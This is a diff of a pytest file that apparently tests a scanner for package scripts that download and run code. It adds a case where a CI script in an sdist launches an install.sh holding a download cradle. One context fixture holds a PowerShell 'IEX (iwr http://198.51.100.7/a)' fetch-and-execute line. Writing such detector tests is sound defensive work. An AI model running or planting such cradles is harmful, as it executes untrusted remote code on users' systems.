@@ -234,8 +234,15 @@ def test_a_script_the_package_starts_that_downloads_and_runs_is_danger(
             "scripts/install_rust.sh": _CRADLE,
             "ci/bootstrap.ps1": "IEX (iwr http://198.51.100.7/a)\n",
         },
+        # a CI script of the sdist, outside any package, building images with install.sh
+        # (numpy's vendored meson: ci/ciimage/build.py and each image's install.sh)
+        {
+            "setup.py": _setup("[]"),
+            "ci/ciimage/build.py": "import subprocess\nsubprocess.run(['bash', 'install.sh'])\n",
+            "ci/ciimage/ubuntu/install.sh": _CRADLE,
+        },
     ],
-    ids=["started-clean", "js-no-fetch", "named-not-started"],
+    ids=["started-clean", "js-no-fetch", "named-not-started", "ci-script"],
 )
 @pytest.mark.parametrize("form", ["tree", "sdist"])
 def test_scripts_the_code_does_not_start_or_that_fetch_nothing_stay_clean(
